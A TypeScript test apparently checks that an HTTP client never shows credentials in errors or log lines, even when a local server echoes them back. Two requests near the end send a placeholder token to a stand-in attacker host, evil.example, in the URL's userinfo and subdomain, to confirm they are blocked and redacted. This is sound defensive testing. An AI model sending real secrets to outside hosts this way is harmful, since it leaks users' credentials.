import { inspect } from "node:util";
import { expect, test } from "vitest";
import { z } from "zod";
import { Secret } from "../secret.ts";
import { openClient, serve } from "./local-server.test.support.ts";

const TOKEN = "xoxb-1234567890-abcdefghij";
const KEY = 'k3y/with "odd" signs+';
const QUERY = "signature-in-query-998877";

test("whatever goes wrong, no error and no log line shows a credential, though the source echoes them everywhere", async () => {
  const server = await serve((request, response) => {
    const status = Number(request.url?.split("/")[1]?.split("?")[0]);
    if (request.url?.includes("cut")) return void request.socket.destroy();
    const echo = JSON.stringify({ [TOKEN]: KEY, request: request.headers, url: request.url });
    response.writeHead(Number.isNaN(status) ? 404 : status, {
      "content-type": `text/html+${TOKEN}`,
      "www-authenticate": TOKEN,
      location: `/${TOKEN}?${QUERY}`,
      "x-key": encodeURIComponent(KEY),
    });
    response.end(status === 206 ? `${TOKEN} is not JSON` : echo);
  });
  const http = openClient({ allow: [server.host], maxRetries: 1, secrets: [new Secret(KEY)] });
  const Echo = z.strictObject({
    [TOKEN]: z.literal("x").or(z.number({ error: (issue) => `not ${String(issue.input)}` })),
  });
  const headers = { authorization: `Bearer ${TOKEN}`, "x-key": new Secret(encodeURIComponent(KEY)) };
  const failures: unknown[] = [];

  for (const status of [200, 206, 302, 400, 401, 403, 404, 429, 500]) {
    for (const url of [
      `${server.url}/${status}?${QUERY}`,
      `${server.url}/${status}/cut/${TOKEN}/${encodeURIComponent(KEY)}`,
    ]) {
      const attempts = [
        http.json(url, Echo, { headers, query: { token: TOKEN } }),
        http.download(url, { headers, expect: { contentType: "image/png" }, query: { token: TOKEN } }),
      ];
      for (const result of await Promise.allSettled(attempts))
        if (result.status === "rejected") failures.push(result.reason);
    }
  }
  failures.push(
    await http.request(`https://user:${TOKEN}@evil.example/`, { headers }).catch((reason: unknown) => reason),
  );
  failures.push(
    await http.request(`https://${TOKEN}.evil.example/${TOKEN}`, { headers }).catch((reason: unknown) => reason),
  );

  expect(failures).toHaveLength(38);
  for (const text of [...failures.map(print), ...http.logged]) {
    for (const secret of [TOKEN, KEY, encodeURIComponent(KEY), QUERY]) expect(text).not.toContain(secret);
  }
  expect(http.logged.length).toBeGreaterThan(10);
});

/** Everything that a logger or a crash could print of an error. */
function print(error: unknown): string {
  const { message, stack, cause } = error as Error;
  return [
    message,
    stack,
    JSON.stringify(error),
    inspect(error, { depth: 10, showHidden: true }),
    inspect(cause, { depth: 10 }),
  ].join("\n");
}
